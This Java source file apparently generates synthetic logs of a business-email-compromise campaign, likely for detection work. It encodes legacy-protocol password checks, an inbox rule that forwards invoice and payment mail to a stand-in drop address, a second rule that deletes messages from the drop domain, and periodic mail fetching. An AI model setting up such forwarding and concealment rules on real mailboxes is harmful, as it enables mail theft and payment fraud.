import java.time.Duration;
import java.time.Instant;

/** How the campaign works on any victim: machines with one task each, the same rules and drop addresses everywhere. */
final class Workers {
    /** Tries passwords over old mail protocols. */
    static final String CHECKER = "203.0.113.177";
    /** Signs in with a browser and writes rules; answers in a victim's name, too. */
    static final String RULE_WRITER = "198.51.100.203";
    /** Fetches mail. */
    static final String READER = "2001:db8:c10d:41::7";
    static final String DROP = "ex@exdigy-drop.example";
    static final String SECOND_DROP = "in@jetclubs-drop.example";
    static final String WORDS = "invoice;payment;statement";
    static final Office.Agent OLD_CHROME = new Office.Agent(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.79"
                    + " Safari/537.36",
            "Windows 10",
            "Chrome");
    /** The reader comes by every so often. */
    private static final Duration ROUND = Duration.ofMinutes(663);

    private final Log log;
    private final Mailboxes mailboxes;

    Workers(Log log, Mailboxes mailboxes) {
        this.log = log;
        this.mailboxes = mailboxes;
    }

    void check(Instant time, Office.Person person, Log.Result result) {
        log.signIn(time, person, CHECKER, Office.BAV2ROPC, result, null);
    }

    void pairOfRules(Instant time, Office.Person victim, int secondsBetween) {
        String session = log.guid();
        log.signIn(time.minusSeconds(52), victim, RULE_WRITER, OLD_CHROME, Log.Result.TYPED, session);
        log.cmdlet(time, "New-InboxRule", victim, RULE_WRITER, Log.EXCHANGE, session,
                log.path(victim.alias() + "\\o365 standard"),
                "AlwaysDeleteOutlookRulesBlob", "False",
                "Force", "False",
                "SubjectOrBodyContainsWords", WORDS,
                "ForwardTo", DROP,
                "Name", "o365 standard",
                "StopProcessingRules", "False");
        log.cmdlet(time.plusSeconds(secondsBetween), "New-InboxRule", victim, RULE_WRITER, Log.EXCHANGE, session,
                log.path(victim.alias() + "\\o365 standard (d)"),
                "AlwaysDeleteOutlookRulesBlob", "False",
                "Force", "False",
                "SubjectOrBodyContainsWords", DROP.substring(DROP.indexOf('@') + 1),
                "DeleteMessage", "True",
                "Name", "o365 standard (d)",
                "StopProcessingRules", "True");
    }

    /** Takes what is new, from the first visit until the end. */
    void fetch(Office.Person victim, String reader, Mail.Client client, Instant first, Instant end) {
        var visit = new Mail.Visit(victim, victim, reader, client, null);
        int known = 12;
        for (Instant time = first; time.isBefore(end); time = time.plus(ROUND)) {
            log.signIn(time, victim, reader, Office.BAV2ROPC, Log.Result.LEGACY, null);
            log.mail.read(time.plusSeconds(5), visit, "\\Inbox", mailboxes.newest(victim, time, known, 2));
            known = 3;
        }
    }
}
